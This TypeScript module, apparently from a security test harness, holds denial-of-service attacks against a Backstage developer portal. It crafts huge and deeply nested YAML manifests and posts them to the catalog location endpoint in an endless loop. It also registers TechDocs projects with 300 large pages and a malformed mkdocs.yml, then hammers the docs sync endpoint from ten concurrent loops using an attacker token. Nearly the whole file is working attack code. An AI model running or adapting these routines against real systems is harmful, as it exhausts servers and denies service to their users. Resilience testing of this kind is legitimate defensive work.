import { setTimeout as sleep } from 'node:timers/promises';
import {
  countStatuses,
  post,
  type Attack,
  type Prepare,
  type Target,
} from './target.ts';

const lines = (count: number, line: (at: number) => string) =>
  Array.from({ length: count }, (_, at) => line(at)).join('\n');

const component = (name: string, annotations = '') =>
  `apiVersion: backstage.io/v1alpha1
kind: Component
metadata:
  name: ${name}
  annotations:
    backstage.io/techdocs-ref: dir:.
${annotations}
spec: { type: service, lifecycle: production, owner: group:default/team-payments }
`;

const annotated = (name: string, count: number) =>
  component(
    name,
    lines(count, at => `    k${at}: v`),
  );

/** Some are refused and some just allowed. */
export const manifests = {
  'large.yaml': lines(500_000, at => `key${at}: value`),
  'keys.yaml': lines(30_000, at => `key${at}: v`),
  'deep.yaml': `a: ${'['.repeat(20_000)}`,
  'annotations.yaml': annotated('many', 19_000),
  'one.yaml': annotated('one', 980),
  'many.yaml': lines(199, at => `${annotated(`c${at}`, 85)}---`),
};

/** Has the catalog look at files that cost much, one after the other, as fast as it answers. */
export const yaml: Prepare = async ({ push }) => {
  const base = await push(manifests);
  return (target, signal) => registerAll(target, { base, signal });
};

async function registerAll(
  target: Target,
  { base, signal }: { base: string; signal: AbortSignal },
): Promise<string> {
  const answers = countStatuses();
  while (!signal.aborted) {
    for (const file of Object.keys(manifests)) {
      const body = { type: 'url', target: `${base}/${file}` };
      const path = '/catalog/locations?dryRun=true';
      await post(target, path, { body, signal }).then(
        async answer => {
          answers.add(answer.status);
          await answer.arrayBuffer();
        },
        () => {},
      );
      await sleep(50);
    }
  }
  return `${answers}`;
}

const pages = 300;
const names = ['hostile-docs', 'hostile-refused'] as const;

/** Docs of many pages that cannot be rendered in the end, so that they are not current after it either. */
const docs = {
  'catalog-info.yaml': component(names[0]),
  'mkdocs.yml': 'site_name: x\nstrict: true\nplugins: [techdocs-core]\n',
  'docs/index.md': '# Pages\n\n[nowhere](./nowhere.md)\n',
  ...Object.fromEntries(
    Array.from({ length: pages }, (_, at) => [
      `docs/page${at}.md`,
      lines(
        300,
        line => `## Heading ${line}\n\n\`\`\`c\nint a${line};\n\`\`\``,
      ),
    ]),
  ),
};

/** What is refused as soon as its mkdocs.yml has been read, after all of it has been fetched. */
const refusedDocs = {
  ...docs,
  'catalog-info.yaml': component(names[1]),
  'mkdocs.yml': `nav: ${']'.repeat(60_000)}`,
};

/** Registers the entity of new files, and waits for the catalog to have it. */
async function register(
  target: Target,
  files: Record<string, string>,
  name: string,
): Promise<void> {
  const base = await target.push(files);
  const body = { type: 'url', target: `${base}/catalog-info.yaml` };
  const { signal } = new AbortController();
  const answer = await post(target, '/catalog/locations', { body, signal });
  if (!answer.ok) throw new Error(await answer.text());
  const entity = `${target.portal}/api/catalog/entities/by-name/component/default/${name}`;
  const headers = { authorization: `Bearer ${target.attacker}` };
  while ((await fetch(entity, { headers })).status !== 200) await sleep(1_000);
}

/** Ten pages at once that wait for docs to be rendered, again and again. */
export const techdocs: Prepare = async target => {
  await register(target, docs, names[0]);
  await register(target, refusedDocs, names[1]);
  return openDocs;
};

const openDocs: Attack = async (target, signal) => {
  const headers = { authorization: `Bearer ${target.attacker}` };
  const answers = countStatuses();
  const one = async (at: number) => {
    const name = names[at % names.length];
    const sync = `${target.portal}/api/techdocs/sync/default/component/${name}`;
    while (!signal.aborted) {
      try {
        const answer = await fetch(sync, { headers, signal });
        answers.add(answer.status);
        await answer.text();
      } catch {
        // It is tried again.
      }
      await sleep(500);
    }
  };
  await Promise.all(Array.from({ length: 10 }, (_, at) => one(at)));
  return `${answers}`;
};
